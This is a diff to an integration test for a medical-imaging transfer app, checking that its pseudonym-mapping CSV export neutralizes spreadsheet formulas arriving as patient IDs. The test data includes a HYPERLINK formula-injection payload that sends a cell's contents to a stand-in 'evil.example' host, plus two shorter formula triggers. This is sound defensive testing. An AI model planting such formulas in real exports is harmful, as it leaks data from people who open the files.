@@ -6,8 +6,10 @@ worker itself, cancel and crash recovery are tested in test_worker_transfers.py.
 
 from __future__ import annotations
 
+import csv
 import datetime
 import gzip
+import io
 import struct
 from io import BytesIO
 from pathlib import Path
@@ -17,13 +19,13 @@ import pyzipper
 from pydicom import Dataset, dcmread
 
 from adit.core.dicom.operator import DicomOperator
-from adit.core.dicom.synthetic import StudySummary
+from adit.core.dicom.synthetic import StudySummary, generate_ct_series
 from adit.core.models import DicomFolder, DicomServer, Project
 from adit.core.processing import run_task
 from adit.core.statuses import JobStatus, TaskStatus
 from adit.core.tests.example_app.models import ExampleJob, ExampleTask
 from adit.core.tests.factories import server_for, unreachable_server
-from adit.core.tests.job_pages import stored_row
+from adit.core.tests.job_pages import stored_row, url
 
 pytestmark = [pytest.mark.integration, pytest.mark.django_db]
 
@@ -312,6 +314,40 @@ def test_zip_job_that_lost_its_password_writes_nothing(member, source, folder, o
     assert task.status == TaskStatus.FAILURE
     assert "its password was deleted when the job ended" in task.message
     assert not [path for path in Path(folder.path).rglob("*") if path.is_file()]
+
+
+def test_pseudonym_mapping_neutralizes_formulas_from_the_pacs(
+    client, member, empty_orthanc2, folder
+):
+    hostile_ids = ['=HYPERLINK("https://evil.example/?"&B2,"Details")', "+1", "@SUM(1)"]
+    for seed, patient_id in enumerate(hostile_ids):
+        study = list(generate_ct_series(2, rows=16, columns=16, seed=seed))
+        for dataset in study:
+            dataset.PatientID = patient_id
+        empty_orthanc2.upload(study)
+    source = server_for(empty_orthanc2)
+    job = ExampleJob.objects.create(owner=member, status=JobStatus.PENDING)
+    # The IDs as the PACS answers a search, as selective transfer takes them.
+    for number, found in enumerate(DicomOperator(source).find_studies(PatientID="*")):
+        task = ExampleTask.objects.create(
+            job=job,
+            source=source,
+            destination=folder,
+            patient_id=found.PatientID,
+            study_uid=found.StudyInstanceUID,
+            pseudonym=f"SUBJ-{number}",
+        )
+        run_task(None, task._meta.label_lower, task.pk)
+    job.refresh_from_db()
+    assert job.status == JobStatus.SUCCESS, job.message
+    client.force_login(member)
+
+    response = client.get(url("job_pseudonyms", job))
+
+    assert "no-store" in response["Cache-Control"].split(", ")
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert sorted(row[0] for row in rows[1:]) == sorted(f"'{value}" for value in hostile_ids)
+    assert all(row[3] for row in rows[1:])  # each transferred, under its pseudonymized UID
 
 
 def test_nifti_destination_writes_volumes(member, source, folder, orthanc1_studies):
